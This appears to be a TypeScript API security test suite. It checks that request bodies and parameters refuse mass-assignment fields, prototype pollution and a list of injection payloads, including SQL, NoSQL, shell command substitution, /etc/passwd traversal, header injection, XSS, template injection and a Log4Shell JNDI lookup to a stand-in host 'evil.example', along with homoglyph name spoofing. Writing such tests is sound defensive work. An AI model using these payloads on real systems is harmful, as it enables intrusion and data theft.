import type { Operation } from "./operations";
import { pathOf } from "./operations";
import { type Person, usePeople } from "./people";
import { Tenant } from "./tenant";

const people = usePeople();
let ada: Tenant;
let bob: Person;
beforeAll(async () => {
  ada = await Tenant.make(people);
  bob = await people.person("bob");
}, 30_000);

const withBody = () => people.api.operations.filter(({ body }) => body !== undefined);
const bodyOf = (operation: Operation) =>
  people.api.bodyOf(operation, { member: ada.ids.member, token: ada.ids.token }) as Record<string, unknown>;
/** Asks as the owner, past all limits. */
const ask = (operation: Operation, body: unknown, path = pathOf(operation, ada.ids)) => {
  people.cloud.clock.advance("61 seconds");
  return ada.owner.ask(`${operation.method} ${path}`, body);
};

/** What a client may not say of itself, or of what it makes. */
const claimed: Record<string, unknown> = {
  id: "01KB2M4T7Z9V3N8QX5C6D0E1FG",
  role: "super_admin",
  super_admin: "me",
  status: "active",
  verification_status: "verified",
  scopes: ["*"],
  owner: "me",
  user: "me",
  tenant: "PROJECT#1",
  organization: "01KB2M4T7Z9V3N8QX5C6D0E1FG",
  version: 1000,
  created_at: "2000-01-01T00:00:00.000Z",
  type: "api",
  user_type: "human",
  email_verified: true,
  pk: "USER#1",
  isAdmin: true,
};

describe("S2.16 S2.17 what a body says that is not its affair (mass assignment)", () => {
  it("is refused with 400 at every route of the document that takes a body, and nothing changes", async () => {
    const before = await ada.view();
    expect(withBody().length).toBeGreaterThan(10);
    for (const operation of withBody()) {
      const known = people.api.propertiesOf(operation);
      for (const [name, value] of Object.entries(claimed).filter(([each]) => !known.includes(each))) {
        const answer = await ask(operation, { ...bodyOf(operation), [name]: value });
        expect([operation.route, name, answer.status]).toEqual([operation.route, name, 400]);
      }
    }
    expect(await ada.view()).toEqual(before);
  }, 120_000);

  it.each(["__proto__", "constructor", "prototype"])(
    "is refused where it is called %s",
    async (name) => {
      const before = await ada.view();
      for (const operation of withBody()) {
        const text = JSON.stringify(bodyOf(operation)).replace(/^\{/, `{"${name}":{"role":"super_admin"},`);
        const answer = await ask(operation, text.replace(/,\}$/, "}"));
        expect([operation.route, answer.status]).toEqual([operation.route, 400]);
      }
      expect(await ada.view()).toEqual(before);
    },
    60_000,
  );

  it("is not read twice: of a name that is there twice, the contract judges the one that is used", async () => {
    const name = `Twice ${people.now}`;
    const answer = await ada.owner.ask("POST /projects", `{"name":"${name}","name":"ok","super_admin":"x"}`);
    expect(answer.status).toBe(400);
  });
});

/** Texts that mean something to somebody on the way. */
const injections = [
  "' OR '1'='1' --",
  '{"$gt":""}',
  "$(id)`id`;id|id",
  "../../../../etc/passwd",
  "a\u0000b",
  "a\r\nset-cookie: a=b",
  "<script>alert(1)</script>",
  "attribute_exists(pk) OR #a = :b",
  "#pk :pk",
  "PROJECT#01KB2M4T7Z9V3N8QX5C6D0E1FG",
  "USER#x\u0001SESSION#y",
  `$${"{jndi:ldap://evil.example/a}"}`,
  "{{7*7}}%7B%7B7*7%7D%7D%s%n",
  "__proto__",
  "\ud800",
  "\u202egnp.exe",
  "9".repeat(400),
  "null",
  "*",
];

/** A body with a text at one place in it. */
function placed(body: unknown, [first, ...rest]: readonly string[], text: string): unknown {
  if (first === undefined) return Array.isArray(body) ? [text] : text;
  const object = body as Record<string, unknown>;
  return { ...object, [first]: placed(object?.[first], rest, text) };
}

/** What answers have to be: refused, or done; and read by nobody as a page. */
const safe = (status: number) => status < 500 && status !== 501;

describe("S2.17 texts that mean something to a table, a shell, a log or a browser", () => {
  it.each(injections)(
    "%j: at every place of every body nothing breaks, and nothing is let out",
    async (text) => {
      for (const operation of withBody())
        for (const place of people.api.textsIn(operation)) {
          people.cloud.clock.advance("61 seconds");
          const body = placed(bodyOf(operation), place, text);
          const answer = await bob.ask(`${operation.method} ${pathOf(operation, { ...ada.ids })}`, body);
          expect([operation.route, place, answer.status, safe(answer.status)]).toEqual([
            operation.route,
            place,
            answer.status,
            true,
          ]);
          expect(answer.headers.get("set-cookie")).toBeNull();
          expect(answer.headers.get("content-type") ?? "json").toMatch(/json/);
          expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
        }
    },
    60_000,
  );

  it.each(injections)(
    "%j: in every parameter it names nothing: 400 or 404, or nothing found",
    async (text) => {
      const encoded = encodeURIComponent(text.toWellFormed());
      for (const operation of people.api.operations.filter(({ takesToken }) => takesToken)) {
        const inPath = [...operation.path.matchAll(/\{(\w+)\}/g)].map(([, name = ""]) => name);
        const inQuery = operation.parameters.filter((each) => each.in === "query").map(({ name }) => name);
        const routes = [
          ...inPath.map((name) => pathOf(operation, { ...ada.ids, [name]: text.toWellFormed() })),
          ...inQuery.map((name) => `${pathOf(operation, ada.ids).split("?")[0]}?${name}=${encoded}`),
        ];
        for (const path of routes) {
          people.cloud.clock.advance("61 seconds");
          const answer = await ada.owner.ask(`${operation.method} ${path}`, people.api.bodyOf(operation, ada.ids));
          // A `*` for a status that all may read is none; cursors, limits and times are looked at before anything is read.
          expect([path, [400, 403, 404, 409].includes(answer.status), answer.status]).toEqual([
            path,
            true,
            answer.status,
          ]);
          expect(answer.headers.get("set-cookie")).toBeNull();
        }
      }
    },
    60_000,
  );
});

describe("S4.29 S2.17 names that look like another", () => {
  const post = async (name: string) => {
    people.cloud.clock.advance("61 seconds");
    return (await ada.owner.ask("POST /projects", { name })).status;
  };

  it.each([
    ["a Cyrillic а among Latin letters", "p\u0430ypal"],
    ["a Greek ο among Latin letters", "micr\u03bfsoft"],
    ["a zero-width space", "pay\u200bpal"],
    ["a zero-width joiner", "pay\u200dpal"],
    ["a soft hyphen", "pay\u00adpal"],
    ["a right-to-left override", "\u202elapyap"],
    ["a line feed", "pay\npal"],
    ["a NUL", "pay\u0000pal"],
    ["half of a surrogate pair", "pay\ud800pal"],
    ["a path", "../paypal"],
    ["markup", "<b>paypal</b>"],
    ["a variation selector", "paypal\ufe0f"],
    ["a tag character", "paypal\u{e0041}"],
  ])("%s: refused with 400", async (_, name) => {
    expect(await post(name)).toBe(400);
  });

  it.each([
    ["other letter case", "HARBOUR"],
    ["full-width letters", "ｈａｒｂｏｕｒ"],
    ["mathematical letters", "𝐡𝐚𝐫𝐛𝐨𝐮𝐫"],
    ["spaces around", " harbour  "],
  ])("%s: the same name, which is taken", async (_, name) => {
    const first = await post("harbour");
    expect([201, 409]).toContain(first);
    expect(await post(name)).toBe(409);
  });
});
